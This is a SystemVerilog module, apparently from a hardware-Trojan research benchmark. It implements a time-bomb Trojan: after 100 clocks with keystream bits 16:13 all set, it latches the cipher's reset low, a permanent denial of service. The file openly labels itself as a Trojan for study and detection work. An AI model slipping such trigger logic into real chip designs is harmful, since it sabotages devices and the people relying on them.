// trojan2: time-bomb hardware Trojan on the cipher reset.
//
// An AND tree watches keystream bits 16:13; its output enables a counter
// clocked by the system clock. Once the counter has counted THRESHOLD (100)
// clocks with z[16:13] == 4'b1111 it stops and holds rst_n_out low, keeping
// the cipher in reset for good (denial of service). The counter is cleared
// only by the external reset rst_n_in (synchronous, active low), not by the
// reset it drives. trigger shows that the bomb has gone off.
//
// The AND tree, the bit range 13-16 and the count of 100 follow the Trojan's
// description; that the counter saturates and holds the reset is this
// design's choice.
module trojan2 #(
  parameter int unsigned THRESHOLD = 100
) (
  input  logic        clk,
  input  logic [31:0] z,
  input  logic        rst_n_in,
  output logic        rst_n_out,
  output logic        trigger
);

  timeunit 1ns;
  timeprecision 1ps;

  localparam int unsigned CW = $clog2(THRESHOLD + 1);

  logic [CW-1:0] cnt;
  logic          tree;

  assign tree    = &z[16:13];
  assign trigger = (cnt == CW'(THRESHOLD));

  always_ff @(posedge clk) begin
    if (!rst_n_in)             cnt <= '0;
    else if (tree && !trigger) cnt <= cnt + 1'b1;
  end

  assign rst_n_out = rst_n_in & ~trigger;

endmodule
